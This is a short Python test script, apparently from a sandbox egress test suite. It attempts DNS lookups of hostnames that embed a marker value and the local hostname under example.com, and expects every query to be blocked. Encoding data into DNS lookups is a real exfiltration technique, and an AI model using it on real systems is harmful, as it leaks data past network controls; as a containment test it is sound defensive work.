"""Asks for the addresses of names, which would carry data to whoever answers. No question must leave.

Limits: wall_s=1
"""

import socket

from attack import TARGETS, attempt

for name in (f"{TARGETS['mark']}.example.com", socket.gethostname() + ".local"):
    attempt(name, socket.getaddrinfo, name, 80)
